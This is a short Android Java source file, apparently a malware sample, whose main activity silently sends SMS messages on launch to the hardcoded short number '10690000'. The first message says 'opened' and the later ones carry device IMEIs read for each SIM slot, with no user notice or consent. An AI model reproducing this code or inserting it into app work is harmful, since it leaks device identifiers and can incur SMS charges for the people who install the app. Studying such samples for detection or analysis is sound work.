package p;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
        String text = "opened";
        for (int slot = 0; slot < phone.getPhoneCount(); slot++) {
            SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
            text = phone.getImei(slot);
        }
    }
}
